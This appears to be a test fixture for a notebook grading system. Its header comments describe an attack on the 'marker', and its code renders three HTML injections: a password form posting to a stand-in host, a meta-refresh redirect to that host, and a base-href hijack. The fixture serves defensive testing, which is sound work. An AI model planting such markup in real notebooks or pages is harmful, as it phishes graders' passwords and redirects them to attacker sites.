# attack: Asks the marker for a password in a form that sends it away, and moves the page on.
# gain: marker
# expect: q01=3 q02=3 q03=3

# %% after q01
from IPython.display import HTML, display

display(HTML('<form action="https://marker4711.example.invalid/"><input name="password" type="password"></form>'))
display(HTML('<meta http-equiv="refresh" content="0; url=https://marker4711.example.invalid/">'))
display(HTML('<base href="https://marker4711.example.invalid/"><link rel="stylesheet" href="marker4711.css">'))
